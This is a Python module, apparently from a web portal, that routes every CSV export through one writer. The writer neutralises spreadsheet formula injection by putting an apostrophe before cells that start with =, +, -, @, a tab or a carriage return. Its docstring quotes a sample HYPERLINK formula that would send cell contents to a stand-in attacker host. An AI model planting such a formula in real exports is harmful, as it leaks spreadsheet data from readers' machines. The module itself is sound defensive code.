"""The one CSV writer of the portal: every export goes through ``csv_writer``.

A cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
is read as a formula by spreadsheet programs (Excel, LibreOffice, Google
Sheets), so a finding title such as ``=HYPERLINK("https://evil.example/?"&A1)``
would run on the reader's machine. Such cells are written with a leading
apostrophe (OWASP's CSV-injection rule): the spreadsheet shows the text, and a
reader of the raw file sees exactly what was typed after the apostrophe.
``portal/tests/test_exports.py`` fails when code outside this module builds a
``csv.writer`` of its own.
"""

from __future__ import annotations

import csv
from decimal import Decimal
from typing import Any, Iterable

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """``value`` as it may stand in a CSV cell: numbers and empty cells as they
    are, any other value as text, with an apostrophe in front when it would
    start a formula."""
    if value is None or isinstance(value, (bool, int, float, Decimal)):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


class _Line:
    """A file-like object that hands back what is written (for streaming)."""

    def write(self, value: str) -> str:
        return value


class CsvWriter:
    """``csv.writer`` with every cell neutralised. ``writerow`` returns the
    line written, so a streaming response can yield it."""

    def __init__(self, out=None):
        self._writer = csv.writer(out if out is not None else _Line())

    def writerow(self, cells: Iterable[Any]):
        return self._writer.writerow([neutralise(cell) for cell in cells])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out=None) -> CsvWriter:
    """The writer for a CSV export: into ``out`` (a text file), or, without
    ``out``, one that returns each line for a ``StreamingHttpResponse``."""
    return CsvWriter(out)
